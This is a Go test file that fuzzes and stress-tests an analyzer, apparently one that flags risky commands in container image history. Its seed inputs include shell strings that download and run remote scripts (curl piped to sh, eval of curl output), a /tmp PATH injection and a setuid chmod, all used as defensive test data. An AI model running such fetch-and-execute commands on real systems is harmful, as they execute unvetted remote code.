package history

import (
	"strings"
	"testing"
	"time"

	ocispec "github.com/opencontainers/image-spec/specs-go/v1"
)

func FuzzAnalyze(f *testing.F) {
	seeds := []string{
		"/bin/sh -c curl -fsSL http://x/i.sh | sh",
		"RUN |2 A=1 B=2 /bin/sh -c eval \"$(curl x)\" # buildkit",
		"/bin/sh -c #(nop)  ONBUILD ENV PATH=:/tmp",
		"|99999999 A",
		"RUN /bin/sh -c $($($($(`",
		"/bin/sh -c 'unterminated \"x",
		`ENTRYPOINT ["a" "b\"`,
		"/bin/sh -c chmod u+s,o=w,-t -- x",
	}
	for _, s := range seeds {
		f.Add(s, "X=Y")
	}
	f.Fuzz(func(t *testing.T, createdBy, env string) {
		im := img(createdBy, createdBy+" | sh")
		im.Config.Env = []string{env}
		im.Config.Cmd = []string{"sh", "-c", createdBy}
		for _, fd := range Analyze(im, nil) {
			if len(fd.Evidence) > MaxEvidence || len(fd.Reason) > MaxReason || strings.ContainsAny(fd.Reason+fd.Evidence, "\n\r") {
				t.Fatalf("bad finding %+v", fd)
			}
		}
	})
}

// TestHostileSizes checks that huge or deeply nested created_by strings are
// handled in reasonable time.
func TestHostileSizes(t *testing.T) {
	cases := []struct {
		name string
		cb   string
	}{
		{"long pipeline", "/bin/sh -c " + strings.Repeat("curl http://x | ", 20000) + "sh"},
		{"many downloads", "/bin/sh -c " + strings.Repeat("curl -o /a$RANDOM http://x; ", 5000) + "/b"},
		{"nested substitutions", "/bin/sh -c " + strings.Repeat("sh -c \"$(", 5000) + "curl x"},
		{"nested sh -c", "/bin/sh -c " + strings.Repeat("sh -c '", 2000)},
		{"unbalanced parens", "/bin/sh -c " + strings.Repeat("$(", 50000)},
		{"long env", "ENV PATH=" + strings.Repeat("/tmp:", 100000)},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			start := time.Now()
			Analyze(ocispec.Image{History: []ocispec.History{{CreatedBy: tc.cb}}}, nil)
			if d := time.Since(start); d > 5*time.Second {
				t.Errorf("took %v", d)
			}
		})
	}
}
